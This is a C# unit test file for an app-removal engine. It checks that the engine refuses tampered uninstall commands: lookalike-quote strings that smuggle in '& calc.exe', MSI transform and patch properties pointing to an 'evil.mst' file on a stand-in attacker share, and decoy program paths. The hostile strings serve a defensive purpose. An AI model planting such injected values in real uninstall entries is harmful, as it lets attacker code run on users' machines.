using AppBan.Engine.Inventory;
using AppBan.Engine.Remediation;
using Xunit;
using static AppBan.Engine.Tests.Remediation.TestFindings;

namespace AppBan.Engine.Tests.Remediation
{
    /// <summary>Attack classes that had no test of their own: lookalike quotes, MSI transforms and decoy programs.</summary>
    public class AttackClassTests
    {
        private static RemovalPlan Plan(InstalledApp app) => RemovalPlanner.Plan(new RemovalRequest(Violation(app)), TargetEnvironment.WindowsDefaults);

        [Theory]
        // U+201C/U+201D and U+FF02 are not quotes to Windows: the string names no absolute program.
        [InlineData("\u201CC:\\Program Files\\App\\Uninstall.exe\u201D /S")]
        [InlineData("\uFF02C:\\Program Files\\App\\Uninstall.exe\uFF02 /S")]
        // A lookalike quote inside a real pair ends nothing: the program path itself is then not a file name.
        [InlineData("\"C:\\Program Files\\App\\Uninstall.exe\u201D & calc.exe\" /S")]
        public void Lookalike_quotes_are_refused(string quiet)
        {
            var plan = Plan(MachineExe(quiet, null));
            Assert.Equal(RemovalStatus.Refused, plan.FinalStatus);
            Assert.Null(plan.CommandLine);
        }

        [Theory]
        [InlineData("MsiExec.exe /X{7C9E6679-7425-40DE-944B-E07FC1F90AE7} TRANSFORMS=C:\\Users\\Public\\evil.mst")]
        [InlineData("MsiExec.exe /I{7C9E6679-7425-40DE-944B-E07FC1F90AE7} TRANSFORMS=\"\\\\attacker\\share\\evil.mst\" /qn")]
        [InlineData("MsiExec.exe /X{7C9E6679-7425-40DE-944B-E07FC1F90AE7} PATCH=C:\\Users\\Public\\evil.msp CUSTOMACTION=1")]
        public void An_msi_string_gives_only_its_product_code_so_transforms_and_properties_never_reach_msiexec(string uninstall)
        {
            var plan = Plan(MachineMsi(ProductCode, uninstall));
            Assert.Equal("msiexec.exe /x " + ProductCode + " /qn /norestart", plan.CommandLine);
        }

        [Theory]
        // The program is what Windows would start: the first one. An allowed path later in the string is only an argument.
        [InlineData("C:\\Windows\\System32\\net.exe \"C:\\Program Files\\TikTok LIVE Studio\\Uninstall.exe\" /S", "Windows system folder")]
        [InlineData("\"C:\\Program Files\\dotnet\\dotnet.exe\" \"C:\\Program Files\\TikTok LIVE Studio\\Uninstall.exe\"", "system or runtime folder")]
        // A program that merely sits beside the real uninstaller's name in the same string is judged on its own folder.
        [InlineData("C:\\ProgramData\\Microsoft\\decoy.exe C:\\Program Files\\TikTok LIVE Studio\\Uninstall.exe /S", "system or runtime folder")]
        public void A_decoy_uninstaller_path_does_not_make_another_program_allowed(string quiet, string reason)
        {
            var plan = Plan(MachineExe(quiet, null));
            Assert.Equal(RemovalStatus.Refused, plan.FinalStatus);
            Assert.Contains(reason, plan.Reason);
        }
    }
}
